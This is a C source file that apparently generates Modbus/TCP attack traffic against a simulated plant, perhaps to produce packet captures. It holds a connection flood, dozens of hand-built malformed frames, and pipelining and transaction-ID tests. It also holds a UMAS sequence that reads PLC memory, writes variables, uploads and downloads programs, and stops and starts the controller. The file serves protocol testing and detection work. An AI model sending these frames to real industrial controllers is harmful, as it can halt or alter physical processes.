/* Attacks with bytes put together by hand: no correct stack would send them like this. */
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <string.h>
#include <sys/socket.h>

#include "pcaps/plant/errand.h"

#define WAIT_MS	    300
#define FLOOD_LINKS 3
#define FLOOD_EACH  400
#define MBAP	    7

/* A request's ADU; its length. Counted as sent. */
static size_t adu_make(struct visit *v, uint8_t *adu, unsigned transaction, unsigned unit,
		       const uint8_t *pdu, size_t len)
{
	const uint8_t header[MBAP] = {
		(uint8_t)(transaction >> 8), (uint8_t)transaction, 0, 0, (uint8_t)((len + 1) >> 8),
		(uint8_t)(len + 1),	     (uint8_t)unit
	};

	memcpy(adu, header, MBAP);
	memcpy(adu + MBAP, pdu, len);
	v->tally.sent[pdu[0]]++;
	return MBAP + len;
}

static size_t adu_read(struct visit *v, uint8_t *adu, unsigned transaction, unsigned unit,
		       unsigned function, unsigned addr, unsigned count)
{
	const uint8_t pdu[] = { (uint8_t)function, (uint8_t)(addr >> 8), (uint8_t)addr,
				(uint8_t)(count >> 8), (uint8_t)count };

	return adu_make(v, adu, transaction, unit, pdu, sizeof(pdu));
}

/* Takes `n` answers, tells their order of transaction ids; how many came. */
static int answers_take(struct visit *v, const struct link *l, int n, char *order, size_t room)
{
	uint8_t adu[LINK_ADU_MAX];
	int got = 0;
	size_t used = 0;

	order[0] = '\0';
	while (got < n && link_receive(l, adu, WAIT_MS) > 0) {
		uint8_t function = adu[MBAP] & 0x7f;

		if (adu[MBAP] & 0x80)
			v->tally.refused[function]++;
		else
			v->tally.answered[function]++;
		if (used < room)
			used += (size_t)snprintf(order + used, room - used, "%s%u", got ? ", " : "",
						 adu[0] << 8 | adu[1]);
		got++;
	}
	return got;
}

int attack_flood(struct visit *v)
{
	struct link links[FLOOD_LINKS] = { 0 };
	unsigned answers = 0, sent = 0;
	char order[16];
	int result = DONE;

	for (int i = 0; i < FLOOD_LINKS; i++)
		if (!visit_open(v, &links[i], WAIT_MS))
			result = FAILED;
	say(v, "%d connections opened", FLOOD_LINKS);
	for (unsigned n = 0; result == DONE && n < FLOOD_EACH && !stop_asked(); n++) {
		for (int i = 0; i < FLOOD_LINKS; i++) {
			uint8_t adu[LINK_ADU_MAX];
			size_t len = adu_read(v, adu, n + 1, 1, 3, 0, 8);

			if (link_send(&links[i], adu, len))
				sent++;
			else
				result = FAILED;
		}
	}
	say(v, "%u requests sent (function 3, registers 0 to 7), no answer waited for", sent);
	for (int i = 0; i < FLOOD_LINKS && links[i].modbus; i++)
		answers += (unsigned)answers_take(v, &links[i], FLOOD_EACH, order, sizeof(order));
	say(v, "%u answers came in the end", answers);
	for (int i = 0; i < FLOOD_LINKS; i++)
		link_close(&links[i]);
	return result;
}

struct broken {
	const char *text;
	const char *hex;
};

/* clang-format off */
static const struct broken broken[] = {
	{ "protocol id 1 instead of 0",               "0101 0001 0006 01 03 0000 0002" },
	{ "protocol id 0xffff",                       "0102 ffff 0006 01 03 0000 0002" },
	{ "MBAP length 0",                            "0103 0000 0000 01 03 0000 0002" },
	{ "MBAP length 1: no function code",          "0104 0000 0001 01" },
	{ "MBAP length 255, over the limit of 254",   "0105 0000 00ff 01 03 0000 0002" },
	{ "MBAP length 65535",                        "0106 0000 ffff 01 03 0000 0002" },
	{ "MBAP length 4, two less than the PDU",     "0107 0000 0004 01 03 0000 0002" },
	{ "MBAP length 8, two bytes never come",      "0108 0000 0008 01 03 0000 0002" },
	{ "two bytes after the quantity",             "0109 0000 0008 01 03 0000 0002 beef" },
	{ "read, cut after the address",              "010a 0000 0004 01 03 0000" },
	{ "function code alone",                      "010b 0000 0002 01 03" },
	{ "read 0 registers",                         "010c 0000 0006 01 03 0000 0000" },
	{ "read 126 registers, one over the limit",   "010d 0000 0006 01 03 0000 007e" },
	{ "read 65535 registers",                     "010e 0000 0006 01 04 0000 ffff" },
	{ "read 2001 coils, one over the limit",      "010f 0000 0006 01 01 0000 07d1" },
	{ "read 0 coils",                             "0110 0000 0006 01 01 0000 0000" },
	{ "read past address 65535",                  "0111 0000 0006 01 03 fffe 0004" },
	{ "write coil with value 0x1234",             "0112 0000 0006 01 05 0005 1234" },
	{ "write 2 registers, byte count 3",          "0113 0000 000a 01 10 00c0 0002 03 0001 02" },
	{ "write 2 registers, byte count 4, one there", "0114 0000 0009 01 10 00c0 0002 04 0001" },
	{ "write 0 registers",                        "0115 0000 0007 01 10 00c0 0000 00" },
	{ "write 124 registers, byte count 248",      "0116 0000 0009 01 10 00c0 007c f8 0001" },
	{ "write 10 coils, byte count 1",             "0117 0000 0008 01 0f 0008 000a 01 ff" },
	{ "write 0 coils",                            "0118 0000 0007 01 0f 0008 0000 00" },
	{ "read and write, byte count against quantity", "0119 0000 000f 01 17 0000 0002 00c0 0002 02 0001 0002" },
	{ "mask write, two bytes short",              "011a 0000 0006 01 16 00c0 00ff" },
	{ "file record, byte count 6 (under 7)",      "011b 0000 0009 01 14 06 06 0001 0000 00" },
	{ "file record, reference type 5",            "011c 0000 000a 01 14 07 05 0001 0000 0002" },
	{ "file write, record longer than the data",  "011d 0000 000e 01 15 0b 06 0001 0000 0009 0001 0002" },
	{ "FIFO, address of one byte",                "011e 0000 0003 01 18 00" },
	{ "diagnostics without data",                 "011f 0000 0004 01 08 0000" },
	{ "diagnostics, sub-function 19 (reserved)",  "0120 0000 0006 01 08 0013 0000" },
	{ "MEI type 255",                             "0121 0000 0005 01 2b ff 01 00" },
	{ "device identification, cut",               "0122 0000 0003 01 2b 0e" },
	{ "function 0",                               "0123 0000 0006 01 00 0000 0001" },
	{ "function 9 (reserved)",                    "0124 0000 0006 01 09 0000 0001" },
	{ "function 10 (reserved)",                   "0125 0000 0002 01 0a" },
	{ "function 65 (user-defined)",               "0126 0000 0005 01 41 010203" },
	{ "function 100 (user-defined)",              "0127 0000 0005 01 64 010203" },
	{ "function 125 (reserved)",                  "0128 0000 0002 01 7d" },
	{ "a request with the exception bit",         "0129 0000 0003 01 83 02" },
	{ "function 255",                             "012a 0000 0002 01 ff" },
	{ "an answer sent as a request",              "012b 0000 0007 01 03 04 0001 0002" },
	{ "text that is no Modbus",                   "474554202f20485454502f312e300d0a0d0a" },
	{ "one byte and the end",                     "00" },
	{ "a correct read, for comparison",           "012d 0000 0006 01 03 0000 0002" },
};
/* clang-format on */

int attack_malformed(struct visit *v)
{
	for (size_t i = 0; i < COUNT_OF(broken) && !stop_asked(); i++) {
		uint8_t bytes[LINK_ADU_MAX], adu[LINK_ADU_MAX];
		size_t len = hex_bytes(broken[i].hex, bytes, sizeof(bytes));
		struct link l;
		int n;

		if (!visit_open(v, &l, WAIT_MS))
			return FAILED;
		if (!link_send(&l, bytes, len))
			return FAILED;
		n = link_receive(&l, adu, WAIT_MS);
		say(v, "%s (%s): %s", broken[i].text, broken[i].hex,
		    answer_text(adu + MBAP, n > 0 ? n - MBAP : n));
		link_close(&l);
	}
	say(v, "%zu frames sent by hand, one connection each", COUNT_OF(broken));
	return DONE;
}

/* Each unit answers after its own time, so the answers come in another order. */
static void interleave(struct visit *v, const struct link *l)
{
	static const uint8_t units[] = { 12, 13, 11, 1, 12, 11 };
	uint8_t adu[LINK_ADU_MAX];
	char order[128];
	int got;

	for (unsigned i = 0; i < COUNT_OF(units); i++)
		link_send(l, adu, adu_read(v, adu, 200 + i, units[i], 4, 0, 2));
	got = answers_take(v, l, (int)COUNT_OF(units), order, sizeof(order));
	say(v,
	    "six requests in flight, transactions 200 to 205, to units 12, 13, 11, 1, 12, 11: "
	    "%d answers in the order %s",
	    got, order);
}

static void in_one_segment(struct visit *v, const struct link *l)
{
	uint8_t many[8 * LINK_ADU_MAX];
	size_t len = 0;
	char order[128];
	int got;

	for (unsigned i = 0; i < 8; i++)
		len += adu_read(v, many + len, 100 + i, 1, 1 + i % 4, i, 2);
	link_send(l, many, len);
	got = answers_take(v, l, 8, order, sizeof(order));
	say(v,
	    "eight requests in one segment, transactions 100 to 107, functions 1 to 4: %d "
	    "answers in the order %s",
	    got, order);
}

static void in_pieces(struct visit *v, const struct link *l)
{
	static const size_t cuts[] = { 0, 1, 6, 8, 12, 19, 24 };
	uint8_t two[2 * LINK_ADU_MAX];
	size_t len = adu_read(v, two, 300, 1, 3, 0, 4);
	char order[64];
	int got;

	adu_read(v, two + len, 301, 1, 3, 0, 3);
	for (size_t i = 0; i + 1 < COUNT_OF(cuts); i++) {
		link_send(l, two + cuts[i], cuts[i + 1] - cuts[i]);
		clock_sleep_ms(30);
	}
	got = answers_take(v, l, 2, order, sizeof(order));
	say(v,
	    "two requests of 12 bytes, transactions 300 and 301, in segments of 1, 5, 2, 4, 7 "
	    "and 5 bytes: %d answers in the order %s",
	    got, order);
}

static void same_transaction(struct visit *v, const struct link *l)
{
	uint8_t adu[LINK_ADU_MAX];
	char order[64];
	int got;

	for (unsigned i = 0; i < 3; i++)
		link_send(l, adu, adu_read(v, adu, 400, 1, 3, i, 1 + i));
	got = answers_take(v, l, 3, order, sizeof(order));
	say(v, "three different requests in flight with the same transaction 400: %d answers", got);
}

int attack_pipeline(struct visit *v)
{
	struct link l;
	char order[64];
	uint8_t adu[LINK_ADU_MAX];
	int got;

	if (!visit_open(v, &l, WAIT_MS))
		return FAILED;
	for (int round = 0; round < 3; round++) {
		in_one_segment(v, &l);
		interleave(v, &l);
		in_pieces(v, &l);
		same_transaction(v, &l);
	}
	/* the connection ends while a slow unit still owes an answer */
	link_send(&l, adu, adu_read(v, adu, 500, 12, 4, 0, 2));
	link_send(&l, adu, adu_read(v, adu, 501, 1, 3, 0, 2));
	got = answers_take(v, &l, 1, order, sizeof(order));
	say(v, "transactions 500 and 501 sent, %d answer (%s), connection closed at once", got,
	    order);
	link_close(&l);
	return DONE;
}

int attack_transaction_zero(struct visit *v)
{
	static const unsigned transactions[] = { 0, 0x1234 };
	struct link l;
	char order[128];
	int got = 0;

	if (!visit_open(v, &l, WAIT_MS))
		return FAILED;
	for (size_t t = 0; t < COUNT_OF(transactions); t++) {
		for (unsigned i = 0; i < 20 && !stop_asked(); i++) {
			uint8_t adu[LINK_ADU_MAX];

			link_send(&l, adu,
				  adu_read(v, adu, transactions[t], 1, 3 + i % 2, i, 1 + i % 5));
			got += answers_take(v, &l, 1, order, sizeof(order));
			clock_sleep_ms(50);
		}
		say(v, "20 requests with transaction id %u, one after the other", transactions[t]);
	}
	for (unsigned i = 0; i < 3; i++) {
		uint8_t adu[LINK_ADU_MAX];

		link_send(&l, adu, adu_read(v, adu, 0, 1, 3, i * 4, 4));
	}
	got += answers_take(v, &l, 3, order, sizeof(order));
	say(v, "3 requests in flight with transaction id 0; %d answers altogether", got);
	link_close(&l);
	return DONE;
}

int attack_umas(struct visit *v)
{
	/* after the function code 5a: session, UMAS function, data */
	static const struct step steps[] = {
		{ "UMAS 01, open communication", 0, "5a 00 01 00" },
		{ "UMAS 02, read identification", 0, "5a 00 02" },
		{ "UMAS 03, read project information", 0, "5a 00 03 00" },
		{ "UMAS 04, read controller information", 0, "5a 00 04" },
		{ "UMAS 06, read memory card information", 0, "5a 00 06" },
		{ "UMAS 0a, repeat", 0, "5a 00 0a 54 4f 20 42 45 20 53 41 49 44" },
		{ "UMAS 58, check controller", 0, "5a 00 58 07 00 00 00" },
		{ "UMAS 41, stop, without a reservation", 0, "5a 00 41 ff 00" },
		{ "UMAS 10, take the reservation", 0, "5a 00 10 2d 10 00 00 05 45 57 53 30 31" },
		{ "UMAS 10, take it a second time", 0, "5a 00 10 2d 10 00 00 05 45 57 53 30 31" },
		{ "UMAS 12, keep alive", 0, "5a 3c 12" },
		{ "UMAS 20, read 32 bytes of memory", 0, "5a 00 20 01 14 00 00 00 00 00 20 00" },
		{ "UMAS 20, read 200 bytes of memory", 0, "5a 00 20 01 14 00 20 00 00 00 c8 00" },
		{ "UMAS 20, read 0 bytes of memory", 0, "5a 00 20 01 14 00 00 00 00 00 00 00" },
		{ "UMAS 22, read 3 variables", 0,
		  "5a 00 22 5c 1d 8e 3a 03 02 01 00 02 02 00 02 03 00" },
		{ "UMAS 23, write a variable", 0, "5a 3c 23 5c 1d 8e 3a 01 02 01 00 10 27" },
		{ "UMAS 30, begin upload", 0, "5a 3c 30 00 01" },
		{ "UMAS 31, upload block 1", 0, "5a 3c 31 01 00 00" },
		{ "UMAS 31, upload block 2", 0, "5a 3c 31 02 00 00" },
		{ "UMAS 31, upload block 3", 0, "5a 3c 31 03 00 00" },
		{ "UMAS 32, end upload", 0, "5a 3c 32 00 01" },
		{ "UMAS 33, begin download", 0, "5a 3c 33 00 01" },
		{ "UMAS 34, download block 1", 0, "5a 3c 34 01 00 08 00 de ad be ef 00 11 22 33" },
		{ "UMAS 35, end download", 0, "5a 3c 35 00 01" },
		{ "UMAS 41, stop the controller", 0, "5a 3c 41 ff 00" },
		{ "UMAS 04, read controller information: stopped", 0, "5a 00 04" },
		{ "UMAS 40, start the controller", 0, "5a 3c 40 ff 00" },
		{ "UMAS 99, a function that does not exist", 0, "5a 00 99" },
		{ "UMAS 11, release the reservation", 0, "5a 3c 11" },
		{ "UMAS without a function: too short", 0, "5a 00" },
	};
	struct link l;
	bool alive;

	if (!visit_open(v, &l, WAIT_MS))
		return FAILED;
	alive = steps_run(v, &l, steps, COUNT_OF(steps));
	link_close(&l);
	return alive ? DONE : FAILED;
}
